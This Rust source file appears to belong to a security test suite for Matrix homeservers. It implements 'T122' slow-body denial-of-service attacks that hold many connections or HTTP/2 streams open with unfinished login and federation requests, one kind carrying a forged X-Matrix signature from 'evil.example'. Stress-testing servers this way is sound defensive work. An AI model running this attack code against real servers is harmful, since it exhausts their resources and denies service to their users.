//! Unauthenticated requests whose bodies are never finished (T122). Must not authenticate.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures_util::{
    StreamExt as _,
    future::{BoxFuture, join_all},
    stream,
};
use tokio::time::timeout;

use super::{Attack, Course, Figures, Target, hold_connections};

/// The endpoint and authentication of an unauthenticated request with a large body.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Login.
    SignIn,
    /// A federation transaction with an invalid `Authorization` header.
    Unsigned,
    /// A federation transaction with a well-formed header whose signature can't be checked before the body is complete.
    Forged,
}

impl Kind {
    fn request_line(self) -> &'static str {
        match self {
            Self::SignIn => "POST /_matrix/client/v3/login",
            Self::Unsigned | Self::Forged => "PUT /_matrix/federation/v1/send/attack",
        }
    }

    fn authorization(self, server: &str) -> String {
        match self {
            Self::SignIn => String::new(),
            Self::Unsigned => "authorization: nonsense\r\n".to_owned(),
            Self::Forged => format!(
                "authorization: X-Matrix origin=\"evil.example\",destination=\"{server}\",key=\"ed25519:1\",sig=\"{}\"\r\n",
                "A".repeat(86)
            ),
        }
    }

    fn body_bytes(self) -> usize {
        match self {
            Self::SignIn => 1024 * 1024,
            Self::Unsigned | Self::Forged => 13_000_000,
        }
    }
}

/// T122: bodies without their last byte, each on a connection of its own.
#[derive(Debug, Clone)]
pub struct UnfinishedBodies {
    /// The kind of request.
    pub kind: Kind,
    /// Number of requests.
    pub requests: usize,
    /// The server name of the target.
    pub server: String,
}

impl Attack for UnfinishedBodies {
    fn name(&self) -> &'static str {
        match self.kind {
            Kind::SignIn => "T122 unfinished logins",
            Kind::Unsigned => "T122 unfinished transactions without a signature",
            Kind::Forged => "T122 unfinished transactions with a forged signature",
        }
    }

    fn run<'a>(&'a self, target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        let length = self.kind.body_bytes();
        let head = format!(
            "{} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{}content-length: {length}\r\n\r\n",
            self.kind.request_line(),
            self.kind.authorization(&self.server)
        );
        let body = vec![b' '; length - 1];
        Box::pin(hold_connections(target, course, self.requests, move |_| {
            vec![head.clone().into_bytes(), body.clone()]
        }))
    }
}

/// T122: the same as many streams of one HTTP/2 connection.
#[derive(Debug, Clone, Copy)]
pub struct UnfinishedStreams {
    /// Number of streams.
    pub streams: usize,
}

impl Attack for UnfinishedStreams {
    fn name(&self) -> &'static str {
        "T122 unfinished bodies on one HTTP/2 connection"
    }

    fn run<'a>(&'a self, target: &'a Target, mut course: Course) -> BoxFuture<'a, Result<Figures>> {
        Box::pin(async move {
            let client = reqwest::Client::builder()
                .http2_prior_knowledge()
                .local_address(target.from)
                .build()?;
            let url = format!("http://{}/_matrix/client/v3/login", target.address);
            let requests = (0..self.streams).map(|_| {
                let part = Bytes::from(vec![b' '; 64 * 1024]);
                // Slightly less than the largest body, then nothing.
                let parts = stream::iter((0..15).map(move |_| Ok::<_, std::io::Error>(part.clone())));
                let body = reqwest::Body::wrap_stream(parts.chain(stream::pending()));
                client.post(&url).body(body).send()
            });
            let holding = tokio::spawn(join_all(requests));
            // From outside it can't be observed when the server has stopped reading.
            tokio::time::sleep(Duration::from_secs(3)).await;
            course.hold().await;
            let answered = timeout(Duration::from_millis(1), holding).await.is_ok();
            Ok(Figures {
                tried: self.streams,
                sent: 0,
                closed: if answered { self.streams } else { 0 },
            })
        })
    }
}
